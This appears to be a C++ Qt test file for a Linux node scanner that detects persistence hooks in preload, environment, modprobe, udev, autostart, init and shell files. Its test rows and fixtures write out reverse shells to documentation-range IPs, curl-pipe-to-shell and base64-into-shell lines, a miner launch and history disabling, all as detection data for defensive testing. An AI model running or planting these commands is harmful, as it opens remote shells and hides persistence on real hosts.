    const MemoryImport env = runFixture(QStringLiteral("rootkit/etc/environment"));
    const Finding* path = findingFor(env, QStringLiteral("node.environment.path"), QStringLiteral("etc/environment"));
    QVERIFY(path);
    QCOMPARE(path->severity, Severity::Medium);
    QCOMPARE(path->title, QStringLiteral("/etc/environment puts /var/tmp/.cache/bin in the PATH of every login "
                                         "session on node worker-1"));
    const Finding* ld =
        findingFor(env, QStringLiteral("node.environment.ld-preload"), QStringLiteral("etc/environment"));
    QCOMPARE(ld->severity, Severity::High);
    QCOMPARE(ld->title, QStringLiteral("/etc/environment preloads /usr/lib/x86_64-linux-gnu/libselinux.so.9 into "
                                       "the programs of every login session on node worker-1"));
    const QString body = env.out.resources.front().body;
    QVERIFY2(!body.contains(QLatin1String("wJalrXUtnFEMI")), qPrintable(body));
    const QJsonArray vars = bodyOf(env).value(QStringLiteral("variables")).toArray();
    QCOMPARE(vars.size(), 4);
    QCOMPARE(vars[3].toObject().value(QStringLiteral("name")).toString(), QStringLiteral("AWS_SECRET_ACCESS_KEY"));
    QCOMPARE(vars[3].toObject().value(QStringLiteral("value")).toString(),
             secretFingerprint("wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"));
    QCOMPARE(vars[3].toObject().value(QStringLiteral("line")).toInt(), 5);

    // modprobe.d: the gravest judgement of the command, the hook and the line continued.
    const MemoryImport usb = runFixture(QStringLiteral("rootkit/etc/modprobe.d/usb-storage.conf"));
    const Finding& shell = usb.out.findings.front();
    QCOMPARE(shell.severity, Severity::Critical);
    QCOMPARE(shell.title, QStringLiteral("the modprobe hook install usb-storage in /etc/modprobe.d/usb-storage.conf "
                                         "opens a reverse shell as root on node worker-1"));
    QVERIFY2(shell.detail.contains(QLatin1String("Line 2 of /etc/modprobe.d/usb-storage.conf: install usb-storage "
                                                 "/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.45/443 0>&1 &' ;     "
                                                 "/sbin/modprobe --ignore-install usb-storage")),
             qPrintable(shell.detail));
    const QJsonObject usbBody = bodyOf(usb);
    QCOMPARE(usbBody.value(QStringLiteral("options")).toInt(), 1);
    const QJsonObject command = usbBody.value(QStringLiteral("commands")).toArray().at(0).toObject();
    QCOMPARE(command.value(QStringLiteral("module")).toString(), QStringLiteral("usb-storage"));
    QCOMPARE(command.value(QStringLiteral("directive")).toString(), QStringLiteral("install"));
    QVERIFY(command.value(QStringLiteral("suspicious")).toBool());

    const MemoryImport cis = runFixture(QStringLiteral("debian/etc/modprobe.d/cis-hardening.conf"));
    QCOMPARE(bodyOf(cis).value(QStringLiteral("blacklisted")).toArray().size(), 7);

    const MemoryImport load = runFixture(QStringLiteral("rootkit/etc/modules-load.d/netfilter.conf"));
    QCOMPARE(load.out.findings.front().severity, Severity::Medium);
    QCOMPARE(load.out.findings.front().title,
             QStringLiteral("/etc/modules-load.d/netfilter.conf lists a file path, not a module name, to load at boot "
                            "on node worker-1"));
    const QJsonArray names = bodyOf(load).value(QStringLiteral("modules")).toArray();
    QCOMPARE(names.size(), 2);
    QCOMPARE(names[0].toObject().value(QStringLiteral("module")).toString(), QStringLiteral("br_netfilter"));

    // udev: the continued rule, its command kept; autostart: whose entry.
    const MemoryImport udev = runFixture(QStringLiteral("rootkit/etc/udev/rules.d/75-net-helper.rules"));
    QVERIFY2(udev.out.findings.size() == 1, qPrintable(udev.out.resources.front().body));
    QCOMPARE(udev.out.findings.front().severity, Severity::High);
    QCOMPARE(udev.out.findings.front().title,
             QStringLiteral("the udev rules /etc/udev/rules.d/75-net-helper.rules download code and run it as root on "
                            "a device event on node worker-1"));
    const QJsonObject udevBody = bodyOf(udev);
    QCOMPARE(udevBody.value(QStringLiteral("rules")).toInt(), 1);
    const QJsonObject run = udevBody.value(QStringLiteral("commands")).toArray().at(0).toObject();
    QCOMPARE(run.value(QStringLiteral("key")).toString(), QStringLiteral("RUN"));
    QCOMPARE(run.value(QStringLiteral("command")).toString(),
             QStringLiteral("/bin/sh -c 'curl -fsS http://203.0.113.9/u.sh | sh'"));
    QVERIFY(run.value(QStringLiteral("suspicious")).toBool());
    const MemoryImport autostart =
        runFixture(QStringLiteral("rootkit/home/dev/.config/autostart/gnome-keyring-helper.desktop"));
    QVERIFY2(autostart.out.findings.size() == 1, qPrintable(autostart.out.resources.front().body));
    QCOMPARE(autostart.out.findings.front().severity, Severity::Medium);
    QCOMPARE(autostart.out.findings.front().title,
             QStringLiteral("the autostart entry /home/dev/.config/autostart/gnome-keyring-helper.desktop runs a "
                            "program from a temporary or hidden folder at each desktop login on node worker-1"));
    QCOMPARE(bodyOf(autostart).value(QStringLiteral("runsAs")).toString(), QStringLiteral("dev"));
    QCOMPARE(bodyOf(autostart).value(QStringLiteral("owner")).toString(), QStringLiteral("dev"));

    // A SysV script and zsh's files say when they run.
    const MemoryImport init = runFixture(QStringLiteral("rootkit/etc/init.d/network-helper"));
    QVERIFY2(init.out.findings.front().detail.contains(
                 QLatin1String("Line 13 of /etc/init.d/network-helper, run at boot as root:     curl -fsSL")),
             qPrintable(init.out.findings.front().detail));
    const MemoryImport zshenv = runFixture(QStringLiteral("rootkit/etc/zsh/zshenv"));
    QVERIFY(zshenv.out.findings.front().detail.contains(
        QLatin1String("Line 6 of /etc/zsh/zshenv, run in every zsh of every user, scripts' too: alias sudo=")));
    const MemoryImport zlogin = runFixture(QStringLiteral("rootkit/home/dev/.zlogin"));
    QVERIFY(zlogin.out.findings.front().detail.contains(
        QLatin1String("Line 2 of /home/dev/.zlogin, run in the login shells of dev: (/var/tmp/.X11-cache/xmrig")));
}

void TestNodeScriptImporter::hookDetections_data()
{
    QTest::addColumn<QString>("path");
    QTest::addColumn<QByteArray>("text");
    QTest::addColumn<QStringList>("findings"); // "rule@line"
    const QString preload = QStringLiteral("worker-1/etc/ld.so.preload");
    const QString env = QStringLiteral("worker-1/etc/environment");
    const QString modprobe = QStringLiteral("worker-1/etc/modprobe.d/x.conf");
    const QString modules = QStringLiteral("worker-1/etc/modules");
    const QStringList none;

    QTest::newRow("preload: blanks and ':' separate")
        << preload << QByteArray("/lib/a.so:/lib/b.so  /lib/c.so # and a comment /lib/d.so\n")
        << QStringList{"node.preload.library@1", "node.preload.library@1", "node.preload.library@1"};
    QTest::newRow("preload: a jemalloc is still one")
        << preload << QByteArray("/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n")
        << QStringList{"node.preload.library@1"};
    QTest::newRow("preload: blank lines and comments") << preload << QByteArray("\n  \n# /tmp/x.so\n\t\n") << none;
    QTest::newRow("preload: ':' alone") << preload << QByteArray(" : :\n") << none;

    QTest::newRow("env: PATH with '.' first")
        << env << QByteArray("PATH=.:/usr/bin:/bin\n") << QStringList{"node.environment.path@1"};
    QTest::newRow("env: PATH with an empty element first")
        << env << QByteArray("PATH=\":/usr/bin:/bin\"\n") << QStringList{"node.environment.path@1"};
    QTest::newRow("env: PATH with a hidden folder last")
        << env << QByteArray("export PATH=/usr/bin:/bin:/home/ops/.x/bin\n") << QStringList{"node.environment.path@1"};
    QTest::newRow("env: PATH with a trailing ':'") << env << QByteArray("PATH=/usr/bin:/bin:\n") << none;
    QTest::newRow("env: PATH with ~/.local/bin")
        << env << QByteArray("PATH=/usr/bin:/bin:/home/ops/.local/bin\n") << none;
    QTest::newRow("env: LD_LIBRARY_PATH in /tmp") << env << QByteArray("LD_LIBRARY_PATH=/opt/app/lib:/tmp/.l\n")
                                                  << QStringList{"node.environment.library-path@1"};
    QTest::newRow("env: LD_LIBRARY_PATH with the working folder")
        << env << QByteArray("LD_LIBRARY_PATH=/opt/app/lib::/usr/lib\n")
        << QStringList{"node.environment.library-path@1"};
    QTest::newRow("env: LD_LIBRARY_PATH in /opt") << env << QByteArray("LD_LIBRARY_PATH=/opt/oracle/lib\n") << none;
    QTest::newRow("env: LD_PRELOAD empty") << env << QByteArray("LD_PRELOAD=\"\"\n") << none;
    QTest::newRow("env: proxies and locale")
        << env << QByteArray("# proxy\nhttp_proxy=http://proxy.corp:3128\nLANG=en_US.UTF-8\n\n") << none;

    QTest::newRow("modprobe: /bin/true and /bin/false")
        << modprobe << QByteArray("install cramfs /bin/true\ninstall udf /bin/false\nremove x /bin/true\n") << none;
    QTest::newRow("modprobe: modprobe of others")
        << modprobe << QByteArray("install bonding /sbin/modprobe --ignore-install bonding && /sbin/modprobe mii\n")
        << none;
    QTest::newRow("modprobe: an echo for the log")
        << modprobe << QByteArray("install usb-storage /bin/echo usb-storage is disabled; /bin/false\n") << none;
    QTest::newRow("modprobe: another program")
        << modprobe << QByteArray("install dummy /usr/local/sbin/net-setup --all\n")
        << QStringList{"node.module.install-command@1"};
    QTest::newRow("modprobe: a remove line from /tmp")
        << modprobe << QByteArray("options x y=1\nremove x /tmp/.r\n") << QStringList{"node.module.install-command@2"};
    QTest::newRow("modprobe: a download run")
        << modprobe << QByteArray("install floppy curl -s http://203.0.113.7/f | sh\n")
        << QStringList{"node.module.install-command@1"};
    QTest::newRow("modprobe: a comment with install")
        << modprobe << QByteArray("# install x /tmp/y\nblacklist x\n") << none;

    QTest::newRow("modules: names and parameters")
        << modules << QByteArray("loop max_loop=64\n; a comment\nfuse\n") << none;
    QTest::newRow("modules: a path") << modules << QByteArray("# load\n/tmp/.k/r.ko\n")
                                     << QStringList{"node.module.load-path@2"};

    const QString udev = QStringLiteral("worker-1/etc/udev/rules.d/99-x.rules");
    const QString autostart = QStringLiteral("worker-1/etc/xdg/autostart/x.desktop");
    QTest::newRow("udev: IMPORT{program} reverse shell")
        << udev
        << QByteArray("SUBSYSTEM==\"usb\", IMPORT{program}=\"/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.7/9 0>&1'\"\n")
        << QStringList{"node.udev.run-command@1"};
    QTest::newRow("udev: PROGRAM from /dev/shm") << udev << QByteArray("KERNEL==\"sd*\", PROGRAM=\"/dev/shm/.p %k\"\n")
                                                 << QStringList{"node.udev.run-command@1"};
    QTest::newRow("udev: base64 after an escaped quote")
        << udev << QByteArray("ACTION==\"add\", RUN+=\"/bin/sh -c \\\"echo Y3VybA== | base64 -d | sh\\\"\"\n")
        << QStringList{"node.udev.run-command@1"};
    QTest::newRow("udev: builtins and matches") << udev
                                                << QByteArray("# RUN+=\"/tmp/x\"\nENV{X}==\"/tmp/y\", "
                                                              "RUN{builtin}+=\"kmod load /tmp/z\", ATTR{a}=\"1\"\n")
                                                << none;
    QTest::newRow("udev: a rule not of pairs") << udev << QByteArray("RUN+=/tmp/x\nRUN+=\"/bin/true\"\n") << none;
    QTest::newRow("autostart: base64 into a shell")
        << autostart
        << QByteArray("[Desktop Entry]\nType=Application\nExec=sh -c \"echo Y3VybA== | base64 -d | bash\"\n")
        << QStringList{"node.autostart.exec@3"};
    QTest::newRow("autostart: another group's Exec")
        << autostart << QByteArray("[Desktop Entry]\nExec=nm-applet\n[Desktop Action New]\nExec=/tmp/x\n") << none;
    QTest::newRow("autostart: a user's own from .local/bin")
        << QStringLiteral("worker-1/home/alice/.config/autostart/sync.desktop")
        << QByteArray("[Desktop Entry]\nExec=/home/alice/.local/bin/sync-notes --tray\n") << none;

    // Init scripts and zsh's files go through the shared judgement.
    QTest::newRow("init.d: a reverse shell")
        << QStringLiteral("worker-1/etc/rc.d/init.d/vmtools")
        << QByteArray("#!/bin/bash\n# chkconfig: 2345 10 90\nnohup bash -i >& /dev/tcp/203.0.113.7/53 0>&1 &\n")
        << QStringList{"node.script.reverse-shell@3"};
    QTest::newRow("zprofile: history off for all")
        << QStringLiteral("worker-1/etc/zprofile") << QByteArray("unset HISTFILE\n")
        << QStringList{"node.script.history-off@1"};
    const QString ldconf = QStringLiteral("worker-1/etc/ld.so.conf.d/x.conf");
    QTest::newRow("ldconfig: hwcap lines are ignored")
        << ldconf << QByteArray("hwcap 1 nosegneg\nHWCAP\t0 x\n/usr/lib\n") << none;
    QTest::newRow("ldconfig: a comment after a folder") << ldconf << QByteArray("/usr/lib/x # /tmp\n") << none;
    QTest::newRow("ldconfig: blanks around a folder") << ldconf << QByteArray("\t /usr/lib64 \t\n\n") << none;
    QTest::newRow("ldconfig: /tmp itself")
        << ldconf << QByteArray("/tmp\n") << QStringList{"node.library-path.folder@1"};
    QTest::newRow("ldconfig: root's home")
        << ldconf << QByteArray("# x\n/root/lib\n") << QStringList{"node.library-path.folder@2"};
    QTest::newRow("ldconfig: a home's tool folder")
        << ldconf << QByteArray("/home/ci/.cargo/lib\n") << QStringList{"node.library-path.folder@1"};
    QTest::newRow("ldconfig: /homeserver is no home")
        << ldconf << QByteArray("/homeserver/lib\n/opt/home/lib\n") << none;
    QTest::newRow("ldconfig: a relative include is the file's folder's")
        << ldconf << QByteArray("include local/*.conf\n") << none;
    QTest::newRow("ldconfig: an include of several patterns")
        << ldconf << QByteArray("include /etc/a/*.conf\t/var/tmp/b.conf\n")
        << QStringList{"node.library-path.folder@1"};
    QTest::newRow("ldconfig: 'include' without a blank is a relative folder")
        << ldconf << QByteArray("include/x\n") << QStringList{"node.library-path.folder@1"};
    QTest::newRow("network hooks: a preload in a dhclient hook")
        << QStringLiteral("worker-1/etc/dhcp/dhclient-enter-hooks.d/x")
        << QByteArray("export LD_PRELOAD=/usr/lib/libx.so\n") << QStringList{"node.script.ld-preload@1"};
    const QString envd = QStringLiteral("worker-1/etc/environment.d/x.conf");
    QTest::newRow("environment.d: a bare $VAR is expanded") << envd << QByteArray("PATH=$HOME/bin:$PATH\n") << none;
    QTest::newRow("environment.d: a relative folder first")
        << envd << QByteArray("PATH=bin:/usr/bin\n") << QStringList{"node.environment.path@1"};
    QTest::newRow("environment.d: libraries from the working folder")
        << envd << QByteArray("# x\nLD_LIBRARY_PATH=:/usr/lib\n") << QStringList{"node.environment.library-path@2"};
    QTest::newRow("environment.d: a line without '=' skipped")
        << envd << QByteArray("not a variable\nLD_PRELOAD=/lib/x.so\n") << QStringList{"node.environment.ld-preload@2"};
    QTest::newRow("Xsession.d: history off is no shell's file")
        << QStringLiteral("worker-1/etc/X11/Xsession.d/99x") << QByteArray("unset HISTFILE\n") << none;
    QTest::newRow("network hooks: history off is no user's shell")
        << QStringLiteral("worker-1/etc/network/if-up.d/x") << QByteArray("unset HISTFILE\n") << none;
    QTest::newRow("a user's .zshenv: history off is theirs")
        << QStringLiteral("worker-1/home/alice/.zshenv") << QByteArray("unset HISTFILE\n") << none;
}

void TestNodeScriptImporter::hookDetections()
{
    QFETCH(QString, path);
    QFETCH(QByteArray, text);
    QFETCH(QStringList, findings);
    const MemoryImport m = runBytes(text, path);
    QVERIFY(m.result.hasValue());
    QCOMPARE(findingLines(m), findings);
    QCOMPARE(m.out.resources.size(), size_t(1));
}

void TestNodeScriptImporter::hookFilesBounded()
{
    // A million libraries in ld.so.preload: each judged, the first 10,000 kept,
    // a hundred findings and an issue counting the rest.
    QByteArray bytes;
    bytes.reserve(20 * 1000000);
    for (int i = 0; i < 1000000; ++i)
        bytes += "/lib/l" + QByteArray::number(i % 10) + ".so\n";
    const MemoryImport m = runBytes(bytes, QStringLiteral("worker-1/etc/ld.so.preload"));
    QVERIFY(keptBounded(m, QStringLiteral("node-script"), "libraries", 10000, "notKept", 990000,
                        QStringLiteral("999900 more entries match node.preload.library")));
    // A modprobe.d line continued a million times: read up to the bound.
    QByteArray continued = "install x /sbin/modprobe \\\n";
    for (int i = 0; i < 1000000; ++i)
        continued += " --opt \\\n";
    continued += "x\ninstall y /tmp/z\n";
    const MemoryImport c = runBytes(continued, QStringLiteral("worker-1/etc/modprobe.d/x.conf"));
    QVERIFY(c.result.hasValue());
    QCOMPARE(findingLines(c), QStringList{QStringLiteral("node.module.install-command@1000003")});
    QVERIFY(hasIssue(c.issues, QStringLiteral("node-script.too-long")));
    QVERIFY(c.out.resources.front().body.size() < 64 * 1024);
    // Bad lines of /etc/environment: skipped with a reason, the rest read.
    const MemoryImport e =
        runBytes("not a variable\n=x\nPATH=/tmp/b:/usr/bin\n", QStringLiteral("worker-1/etc/environment"));
    QVERIFY(e.result.hasValue());
    QCOMPARE(e.result.value().skipped, 2);
    QVERIFY(hasIssue(e.issues, QStringLiteral("node-script.not-a-variable")));
    QCOMPARE(findingLines(e), QStringList{QStringLiteral("node.environment.path@3")});
    // Variables pasted into ld.so.preload by mistake: the credentials fingerprinted too.
    const MemoryImport pasted =
        runBytes(fixture(QStringLiteral("rootkit/etc/environment")), QStringLiteral("worker-1/etc/ld.so.preload"));
    QVERIFY2(!pasted.out.resources.front().body.contains(QLatin1String("wJalrXUtnFEMI")),
             qPrintable(pasted.out.resources.front().body));
    // Credentials in /etc/environment, by their names or inside a value: fingerprints.
    const MemoryImport s = runBytes("DB_PASSWORD=S3cret-Pg-Pass\nGITHUB_TOKEN='ghp_Abc123Def456Ghi789'\n"
                                    "LD_PRELOAD=/lib/x.so\nPROXY=http://proxy:3128/?access_token=Tok-4x9-Secret\n",
                                    QStringLiteral("worker-1/etc/environment"));
    QCOMPARE(findingLines(s), QStringList{QStringLiteral("node.environment.ld-preload@3")});
    for (const char* secret : {"S3cret-Pg-Pass", "ghp_Abc123Def456Ghi789", "Tok-4x9-Secret"}) {
        QVERIFY2(!s.out.resources.front().body.contains(QLatin1String(secret)), secret);
        QVERIFY(!s.out.findings.front().detail.contains(QLatin1String(secret)));
    }
}

void TestNodeScriptImporter::libraryFoldersAndNetworkHooks()
{
    // ld.so.conf.d: each folder judged and kept as ldconfig reads it, the
    // trailing '/' taken off.
    const MemoryImport local = runFixture(QStringLiteral("rootkit/etc/ld.so.conf.d/zz-local.conf"));
    QCOMPARE(local.out.findings.size(), size_t(3));
    const Finding& hidden = local.out.findings[0];
    QCOMPARE(hidden.severity, Severity::High);
    QCOMPARE(hidden.resourceKind, QStringLiteral("NodeLibraryPath"));
    QCOMPARE(hidden.title, QStringLiteral("/etc/ld.so.conf.d/zz-local.conf makes every program load libraries from "
                                          "/var/tmp/.font-unix/lib, a temporary or hidden folder on node worker-1"));
    QVERIFY2(
        hidden.detail.endsWith(QLatin1String("Line 3 of /etc/ld.so.conf.d/zz-local.conf: /var/tmp/.font-unix/lib/")),
        qPrintable(hidden.detail));
    QVERIFY(hidden.detail.contains(QLatin1String("T1574.006")));
    QCOMPARE(hidden.controls, QStringLiteral("CC6.8,CC7.2"));
    QCOMPARE(local.out.findings[1].severity, Severity::Medium);
    QCOMPARE(local.out.findings[1].title,
             QStringLiteral("/etc/ld.so.conf.d/zz-local.conf makes every program load libraries from the relative "
                            "folder lib64 on node worker-1"));
    QCOMPARE(local.out.findings[2].severity, Severity::Medium);
    QCOMPARE(local.out.findings[2].title,
             QStringLiteral("/etc/ld.so.conf.d/zz-local.conf makes every program load libraries from "
                            "/home/build/.local/lib, a folder in a home on node worker-1"));
    const QJsonObject body = bodyOf(local);
    QCOMPARE(body.value(QStringLiteral("runs")).toString(), QStringLiteral("every program"));
    const QJsonArray folders = body.value(QStringLiteral("folders")).toArray();
    QCOMPARE(folders.size(), 4);
    QCOMPARE(folders[0].toObject().value(QStringLiteral("folder")).toString(), QStringLiteral("/opt/app/lib"));
    QVERIFY(!folders[0].toObject().contains(QStringLiteral("suspicious")));
    QCOMPARE(folders[1].toObject().value(QStringLiteral("folder")).toString(),
             QStringLiteral("/var/tmp/.font-unix/lib"));
    QCOMPARE(folders[1].toObject().value(QStringLiteral("line")).toInt(), 3);
    QVERIFY(folders[1].toObject().value(QStringLiteral("suspicious")).toBool());

    // ld.so.conf: its include patterns, one of them in /dev/shm.
    const MemoryImport conf = runFixture(QStringLiteral("rootkit/etc/ld.so.conf"));
    QCOMPARE(conf.out.findings.size(), size_t(1));
    QCOMPARE(conf.out.findings.front().severity, Severity::High);
    QCOMPARE(conf.out.findings.front().title,
             QStringLiteral("/etc/ld.so.conf takes library folders from /dev/shm/.l/*.conf, kept in a temporary or "
                            "hidden folder on node worker-1"));
    const QJsonArray includes = bodyOf(conf).value(QStringLiteral("folders")).toArray();
    QCOMPARE(includes.size(), 2);
    QCOMPARE(includes[0].toObject().value(QStringLiteral("include")).toString(),
             QStringLiteral("/etc/ld.so.conf.d/*.conf"));

    // environment.d: titled with the file and whose services.
    const MemoryImport own = runFixture(QStringLiteral("rootkit/home/dev/.config/environment.d/50-gtk.conf"));
    QCOMPARE(own.out.findings.size(), size_t(1));
    QCOMPARE(own.out.findings.front().severity, Severity::High);
    QCOMPARE(own.out.findings.front().title,
             QStringLiteral("/home/dev/.config/environment.d/50-gtk.conf preloads "
                            "/home/dev/.cache/.gtk/libgtk3-nocsd.so.0 into the programs of the systemd services of "
                            "dev on node worker-1"));
    QVERIFY(own.out.findings.front().detail.contains(QLatin1String("systemd's user manager")));
    QCOMPARE(bodyOf(own).value(QStringLiteral("runsAs")).toString(), QStringLiteral("dev"));
    // A user's pam_env file names the user and the library or folder each in its place.
    const MemoryImport pam = runBytes("LD_PRELOAD=/lib/x.so\nPATH=/tmp/b:/usr/bin\n",
                                      QStringLiteral("worker-1/home/alice/.pam_environment"));
    QCOMPARE(pam.out.findings.size(), size_t(2));
    QCOMPARE(pam.out.findings[0].title, QStringLiteral("/home/alice/.pam_environment preloads /lib/x.so into the "
                                                       "programs of the login sessions of alice on this node"));
    QCOMPARE(pam.out.findings[1].title, QStringLiteral("/home/alice/.pam_environment puts /tmp/b in the PATH of the "
                                                       "login sessions of alice on this node"));
    const MemoryImport path = runFixture(QStringLiteral("rootkit/etc/environment.d/90-path.conf"));
    QCOMPARE(path.out.findings.front().title,
             QStringLiteral("/etc/environment.d/90-path.conf puts /dev/shm/.b in the PATH of every user's systemd "
                            "services on node worker-1"));

    // The network's hooks say what runs them.
    const struct
    {
        const char* path;
        const char* detail;
    } hooks[] = {
        {"rootkit/etc/dhcp/dhclient-exit-hooks.d/ntp-servers",
         "Line 7 of /etc/dhcp/dhclient-exit-hooks.d/ntp-servers, run by dhclient as root at every DHCP lease event: "},
        {"rootkit/etc/NetworkManager/dispatcher.d/99-wifi-powersave",
         "Line 7 of /etc/NetworkManager/dispatcher.d/99-wifi-powersave, run by NetworkManager as root at every "
         "network event: "},
        {"rootkit/etc/network/if-up.d/mountnfs-helper",
         "Line 4 of /etc/network/if-up.d/mountnfs-helper, run by ifupdown as root when an interface goes up or "
         "down: "},
        {"rootkit/etc/X11/Xsession.d/55x11-common_dbus-env",
         "Line 7 of /etc/X11/Xsession.d/55x11-common_dbus-env, run by Xsession in every user's graphical session: "},
    };
    for (const auto& h : hooks) {
        const MemoryImport m = runFixture(QLatin1String(h.path));
        QCOMPARE(m.out.findings.size(), size_t(1));
        QVERIFY2(m.out.findings.front().detail.contains(QLatin1String(h.detail)),
                 qPrintable(m.out.findings.front().detail));
        QCOMPARE(bodyOf(m).value(QStringLiteral("runsAs")).toString(),
                 m.out.resources.front().name.startsWith(QLatin1String("etc/X11/")) ? QStringLiteral("every user")
                                                                                    : QStringLiteral("root"));
    }

    // A million folders in /var/tmp: the first 10,000 kept, a hundred
    // findings and an issue counting the rest.
    QByteArray bytes;
    bytes.reserve(16 * 1000000);
    for (int i = 0; i < 1000000; ++i)
        bytes += "/var/tmp/l" + QByteArray::number(i % 10) + "\n";
    const MemoryImport many = runBytes(bytes, QStringLiteral("worker-1/etc/ld.so.conf.d/x.conf"));
    QVERIFY(keptBounded(many, QStringLiteral("node-script"), "folders", 10000, "notKept", 990000,
                        QStringLiteral("999900 more entries match node.library-path.folder")));
    // A line of a megabyte: one folder, its name cut where it is shown.
    const MemoryImport longLine =
        runBytes("/tmp/" + QByteArray(1024 * 1024, 'a') + "\n", QStringLiteral("worker-1/etc/ld.so.conf"));
    QVERIFY(longLine.result.hasValue());
    QCOMPARE(findingLines(longLine), QStringList{QStringLiteral("node.library-path.folder@1")});
    QVERIFY(longLine.out.resources.front().body.size() < 64 * 1024);
    QVERIFY(longLine.out.findings.front().title.size() < 1000);
}

void TestNodeScriptImporter::fuzz()
{
    NodeScriptImporter importer;
    QVERIFY(fuzzImporter(importer, fuzzIterations(), 0x6e73) > 0);
    QVERIFY(fuzzNodeFile(importer, QStringLiteral("worker-1/etc/rc.local"), 0x6e74));
    QVERIFY(fuzzNodeFile(importer, QStringLiteral("worker-1/home/alice/.bashrc"), 0x6e75));
    // The files of their own formats. (Their credentials are fingerprinted by
    // the variable's name, so a mutation of the name leaves the value a word
    // like any other: secretsAreMasked and hookFilesBounded check them.)
    QVERIFY(fuzzNodeFile(importer, QStringLiteral("worker-1/etc/ld.so.preload"), 0x6e76));
    QVERIFY(fuzzNodeFile(importer, QStringLiteral("worker-1/etc/environment"), 0x6e77));
    QVERIFY(fuzzNodeFile(importer, QStringLiteral("worker-1/etc/modprobe.d/x.conf"), 0x6e78));
    QVERIFY(fuzzNodeFile(importer, QStringLiteral("worker-1/etc/modules-load.d/x.conf"), 0x6e79));
    QVERIFY(fuzzNodeFile(importer, QStringLiteral("worker-1/etc/udev/rules.d/x.rules"), 0x6e7c));
    QVERIFY(fuzzNodeFile(importer, QStringLiteral("worker-1/home/alice/.config/autostart/x.desktop"), 0x6e7d));
    QVERIFY(fuzzNodeFile(importer, QStringLiteral("worker-1/etc/init.d/x"), 0x6e7a));
    QVERIFY(fuzzNodeFile(importer, QStringLiteral("worker-1/etc/zsh/zshenv"), 0x6e7b));
    // csh's, tcsh's and fish's syntax, pam_env's.
    QVERIFY(fuzzNodeFile(importer, QStringLiteral("worker-1/etc/csh.cshrc"), 0x6e7e));
    QVERIFY(fuzzNodeFile(importer, QStringLiteral("worker-1/home/alice/.tcshrc"), 0x6e7f));
    QVERIFY(fuzzNodeFile(importer, QStringLiteral("worker-1/etc/fish/config.fish"), 0x6e80));
    QVERIFY(fuzzNodeFile(importer, QStringLiteral("worker-1/home/alice/.config/fish/functions/sudo.fish"), 0x6e81));
    QVERIFY(fuzzNodeFile(importer, QStringLiteral("worker-1/etc/security/pam_env.conf"), 0x6e82));
    QVERIFY(fuzzNodeFile(importer, QStringLiteral("worker-1/home/alice/.pam_environment"), 0x6e83));
    // The dynamic linker's folders, a network hook.
    QVERIFY(fuzzNodeFile(importer, QStringLiteral("worker-1/etc/ld.so.conf.d/x.conf"), 0x6e84));
    QVERIFY(fuzzNodeFile(importer, QStringLiteral("worker-1/etc/dhcp/dhclient-exit-hooks.d/x"), 0x6e85));
    QVERIFY(fuzzNodeFile(importer, QStringLiteral("worker-1/home/alice/.config/environment.d/x.conf"), 0x6e86));
}

void TestNodeScriptImporter::dialectText_data()
{
    // Each line as sh reads the same commands; a row's lines go through one
    // translator, so a quote or a '\' carries to the next.
    QTest::addColumn<bool>("fish");
    QTest::addColumn<QStringList>("lines");
    QTest::addColumn<QStringList>("expected");
    const auto row = [](const char* name, bool fish, const QStringList& lines, const QStringList& expected) {
        QTest::newRow(name) << fish << lines << expected;
    };
    row("csh: if … then", false, {"if ($?prompt) then"}, {": $?prompt ; then"});
    row("csh: if without a blank", false, {"if(-e x) y"}, {": -e x ; y"});
    row("csh: else if", false, {"  else if (-e /x) then"}, {"  else : -e /x ; then"});
    row("csh: a one-line if", false, {"if ($?prompt) alias x 'y'"}, {": $?prompt ; alias x 'y'"});
    row("csh: foreach", false, {"foreach f (a `ls` b)"}, {": f a `ls` b ;"});
    row("csh: while, switch", false, {"while ($i < 3)", "switch ($x)"}, {": $i < 3 ;", ": $x ;"});
    row("csh: an expression with a ')' quoted", false, {"if (\"$x\" == \")\") y"}, {": \"$x\" == \")\" ; y"});
    row("csh: an unclosed expression", false, {"if ($x then"}, {"if ($x then"});
    row("csh: a word list", false, {"set path = ( /a $path )"}, {"set path = \" /a $path \""});
    row("csh: a word list with quotes", false, {"set a = (\"x\" y)"}, {"set a =  \"x\" y "});
    row("csh: two lists", false, {"set a=(1) b=(2)"}, {"set a=\"1\" b=\"2\""});
    row("csh: a subshell", false, {"( /tmp/x & )"}, {"( /tmp/x & )"});
    row("csh: a continued line starts no command", false, {"alias x \\", "if (y) z"}, {"alias x \\", "if (y) z"});
    row("csh: a command's words", false, {"echo if (x)"}, {"echo if (x)"});
    row("fish: a substitution", true, {"eval (echo x | base64 -d)"}, {"eval $(echo x | base64 -d)"});
    row("fish: $(…) as it is", true, {"echo $(date)"}, {"echo $(date)"});
    row("fish: nested", true, {"echo (a (b))"}, {"echo $(a $(b))"});
    row("fish: \\' in single quotes", true, {"echo 'it\\'s' (date)"}, {"echo 'it'\\''s' $(date)"});
    row("fish: \\\\ in single quotes", true, {"echo 'a\\\\b'"}, {"echo 'a\\b'"});
    row("fish: parens in double quotes", true, {"echo \"(x)\""}, {"echo \"(x)\""});
    row("fish: and, or, not", true, {"true; and /tmp/x", "or curl x | sh", "not test -f y", "  and echo"},
        {"true; && /tmp/x", "|| curl x | sh", "    test -f y", "  && echo"});
    row("fish: and as a word", true, {"echo and or not", "android x"}, {"echo and or not", "android x"});
    row("fish: a quote across lines", true, {"echo 'a", "(b)' (c)"}, {"echo 'a", "(b)' $(c)"});
    row("fish: a comment", true, {"echo x # (y) 'z"}, {"echo x # (y) 'z"});
}

void TestNodeScriptImporter::dialectText()
{
    QFETCH(bool, fish);
    QFETCH(QStringList, lines);
    QFETCH(QStringList, expected);
    shelldialect::Translator t(fish ? shelldialect::Dialect::Fish : shelldialect::Dialect::Csh);
    QStringList out;
    for (const QString& l : lines)
        out << QString::fromStdString(t.line(l.toStdString()));
    QCOMPARE(out, expected);
}

void TestNodeScriptImporter::shellDialects_data()
{
    QTest::addColumn<QString>("path");
    QTest::addColumn<QByteArray>("text");
    QTest::addColumn<QStringList>("findings"); // "rule@line", node.script. left off
    const QString cshrc = QStringLiteral("worker-1/etc/csh.cshrc");
    const QString login = QStringLiteral("worker-1/etc/csh.login");
    const QString users = QStringLiteral("worker-1/home/alice/.cshrc");
    const QString confD = QStringLiteral("worker-1/etc/fish/conf.d/x.fish");
